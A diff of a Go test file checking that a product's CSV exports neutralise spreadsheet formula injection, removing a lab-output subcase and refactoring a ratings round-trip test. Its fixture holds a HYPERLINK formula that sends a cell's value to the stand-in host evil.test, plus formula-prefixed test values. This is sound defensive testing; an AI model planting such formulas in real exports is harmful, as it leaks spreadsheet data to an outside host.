@@ -21,12 +21,12 @@ const hostile = `=HYPERLINK("http://evil.test/?"&A1,"x")`
 
 // TestCSVWritersNeutralise writes a hostile text through every CSV the
 // product writes, in every text column, and checks that no cell of the
-// output starts a formula.
+// output starts a formula. The lab experiments' files are app/lab's
+// TestOutputCSVNeutralises.
 func TestCSVWritersNeutralise(t *testing.T) {
 	h := func(prefix string) string { return prefix + hostile }
 	sel := app.SelectedSeed{SeedURL: h("="), SelectedSite: store.SelectedSite{Selection: store.Selection{
 		Site: h("-"), Status: h("@"), Note: h(""), Subject: h("+"), DecidedBy: h("\t")}}}
-	lab := &app.LabOutput{Experiment: "x"}
 	for _, tc := range []struct {
 		name  string
 		write func(io.Writer) error
@@ -59,13 +59,6 @@ func TestCSVWritersNeutralise(t *testing.T) {
 		{"seeds", func(w io.Writer) error {
 			return app.WriteSeeds(w, []app.Seed{{SeedURL: h(""), Site: h("@")}}, export.CSV)
 		}, 2},
-		{"lab", func(w io.Writer) error {
-			if err := lab.add("x.csv", [][]string{{"graph", "value"}, {h(""), "-0.25"}}, nil); err != nil {
-				return err
-			}
-			_, err := w.Write(lab.Files[0].Data)
-			return err
-		}, 1},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			var buf bytes.Buffer
@@ -102,8 +95,8 @@ func TestCSVWritersNeutralise(t *testing.T) {
 // sites, come back identical.
 func TestRatingsCSVRoundTrip(t *testing.T) {
 	ctx := context.Background()
-	from, _ := apptest.Open(t, apptest.CommunityProject(t))
-	to, _ := apptest.Open(t, apptest.CommunityProject(t))
+	from, fromProject, _ := apptest.OpenProject(t, apptest.CommunityProject(t))
+	to, toProject, _ := apptest.OpenProject(t, apptest.CommunityProject(t))
 	for _, r := range []store.Rating{
 		{Librarian: "=lib", Site: "h1.test", Rating: 4, Note: "=SUM(A1)"},
 		{Librarian: "ana", Site: "h1.test", Rating: 3, Note: "'=already quoted"},
@@ -126,11 +119,11 @@ func TestRatingsCSVRoundTrip(t *testing.T) {
 	if _, err := to.ImportRatingsCSV(ctx, bytes.NewReader(buf.Bytes()), "ratings.csv"); err != nil {
 		t.Fatal(err)
 	}
-	want, err := from.store.Ratings(ctx)
+	want, err := fromProject.Store.Ratings(ctx)
 	if err != nil {
 		t.Fatal(err)
 	}
-	got, err := to.store.Ratings(ctx)
+	got, err := toProject.Store.Ratings(ctx)
 	if err != nil {
 		t.Fatal(err)
 	}
